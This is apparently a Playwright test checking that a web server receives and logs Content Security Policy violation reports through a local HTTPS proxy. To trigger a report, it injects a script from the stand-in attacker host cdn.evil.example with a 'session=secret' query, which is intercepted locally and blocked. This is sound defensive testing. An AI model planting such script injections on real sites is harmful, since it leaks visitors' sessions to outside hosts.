// Violation reports end to end: a real browser meets the served policy on a page, sends
// its report to POST /api/csp-reports, and the Node server writes it to stdout as one
// JSON line (bodies that are not reports are refused and never logged:
// server/api/csp-reports.test.ts, without a browser). The test starts its own server on a
// free port (like tests/server/shutdown-signals.test.ts) to read its output.
//
// The browser reaches the server over https, through a TLS-terminating proxy as in a
// deployment: Chromium sends reports through the Reporting API (the policy's report-to,
// which makes it ignore report-uri) only from secure pages over https.
import { spawn, spawnSync } from "node:child_process";
import { mkdtempSync, readFileSync, rmSync } from "node:fs";
import { request as httpRequest } from "node:http";
import { createServer as createHttpsServer } from "node:https";
import type { AddressInfo } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { expect, test } from "../support/browser/fixtures";
import { BUILD_CLIENT } from "../support/browser/server-targets";
import { CHROMIUM_ARGS, OFFLINE_ARGS } from "../support/e2e-env";
import { CHROMIUM_PATH } from "../../scripts/checks/ensure-chromium";
import { servingUrl } from "../support/site-process";

// Chromium batches Reporting API uploads for up to a minute; --short-reporting-delay sends
// them at once. The proxy's certificate is self-signed for this test. The full browser, as
// visitors have it: Debian's headless shell (the other specs' browser) delivered no report
// to the server within 15 s here.
test.use({
  ignoreHTTPSErrors: true,
  launchOptions: {
    executablePath: CHROMIUM_PATH,
    args: [...CHROMIUM_ARGS, ...OFFLINE_ARGS, "--short-reporting-delay", "--ignore-certificate-errors"],
  },
});

/** A throw-away self-signed certificate for 127.0.0.1, made with openssl. */
function selfSignedCertificate() {
  const dir = mkdtempSync(join(tmpdir(), "csp-reports-tls-"));
  try {
    const keyPath = join(dir, "key.pem");
    const certPath = join(dir, "cert.pem");
    const result = spawnSync(
      "openssl",
      ["req", "-x509", "-newkey", "rsa:2048", "-nodes", "-keyout", keyPath, "-out", certPath, "-days", "1"].concat([
        "-subj",
        "/CN=127.0.0.1",
        "-addext",
        "subjectAltName=IP:127.0.0.1",
      ]),
      { encoding: "utf8" },
    );
    if (result.status !== 0) throw new Error(`openssl could not make a test certificate: ${result.stderr}`);
    return { key: readFileSync(keyPath), cert: readFileSync(certPath) };
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
}

/** An https front for `target` (http), telling it so with X-Forwarded-Proto, as a TLS-terminating proxy does. */
async function httpsProxy(target: string) {
  const upstream = new URL(target);
  const proxy = createHttpsServer(selfSignedCertificate(), (req, res) => {
    const forwarded = httpRequest(
      {
        host: upstream.hostname,
        port: upstream.port,
        method: req.method,
        path: req.url,
        headers: { ...req.headers, "x-forwarded-proto": "https" },
      },
      (answer) => {
        res.writeHead(answer.statusCode ?? 502, answer.headers);
        answer.pipe(res);
      },
    );
    forwarded.on("error", () => res.destroy());
    req.pipe(forwarded);
  });
  await new Promise<void>((resolveListen) => proxy.listen(0, "127.0.0.1", resolveListen));
  const { port } = proxy.address() as AddressInfo;
  return {
    url: `https://127.0.0.1:${port}`,
    close: () => new Promise<void>((resolveClose) => proxy.close(() => resolveClose())).then(() => undefined),
  };
}

interface LoggedViolation {
  event: string;
  directive: string;
  blockedUri: string | null;
  documentUri: string;
  disposition: string | null;
}

/** Starts the production server on a free port; resolves once it prints where it listens. */
async function startServer() {
  // Its own request database: a SQLite folder serves one server at a time.
  const env = { ...process.env, DATA_DIR: mkdtempSync(join(tmpdir(), "ta-network-csp-")) };
  const child = spawn(process.execPath, ["--import", "tsx", "server/serve.ts", "--port", "0", "--dir", BUILD_CLIENT], {
    stdio: "pipe",
    env,
  });
  let output = "";
  child.stdout.on("data", (chunk: Buffer) => (output += chunk.toString()));
  child.stderr.on("data", (chunk: Buffer) => (output += chunk.toString()));
  const url = await new Promise<string>((resolveUrl, reject) => {
    const check = () => {
      const served = servingUrl(output);
      if (served) resolveUrl(served);
    };
    child.stdout.on("data", check);
    child.once("exit", (code) => reject(new Error(`the server exited with ${code}:\n${output}`)));
  });
  const exited = new Promise<void>((resolveExit) => child.once("exit", () => resolveExit()));
  return {
    url,
    /** The violation lines the server has logged so far. */
    violations: () =>
      output
        .split("\n")
        .filter((line) => line.startsWith("{"))
        .map((line) => JSON.parse(line) as LoggedViolation)
        .filter((entry) => entry.event === "csp-violation"),
    stop: async () => {
      child.kill("SIGTERM");
      await exited;
    },
  };
}

test.describe("CSP violation reports", () => {
  test("a violation on a page reaches the server and is logged as one JSON line, without the query", async ({
    page,
    consoleErrors,
  }) => {
    consoleErrors.expect(/Content Security Policy/);
    const server = await startServer();
    const proxy = await httpsProxy(server.url);
    try {
      await page.route("https://cdn.evil.example/**", (route) =>
        route.fulfill({ contentType: "text/javascript", body: "window.injectedRan = true;" }),
      );
      await page.goto(`${proxy.url}/mission?utm_source=newsletter&email=alex%40example.com`);
      await page.evaluate(() => {
        const remote = document.createElement("script");
        remote.src = "https://cdn.evil.example/x.js?session=secret";
        document.body.appendChild(remote);
      });

      await expect.poll(() => server.violations(), { timeout: 15_000 }).toHaveLength(1);
      const [logged] = server.violations();
      expect(Object.keys(logged!).sort()).toEqual(
        ["blockedUri", "column", "directive", "disposition", "documentUri", "event", "line", "sourceFile"].sort(),
      );
      expect(logged).toMatchObject({
        event: "csp-violation",
        directive: "script-src-elem",
        blockedUri: "https://cdn.evil.example/x.js",
        documentUri: `${proxy.url}/mission`,
        disposition: "enforce",
      });
    } finally {
      proxy.close().catch(() => {});
      await server.stop();
    }
  });
});
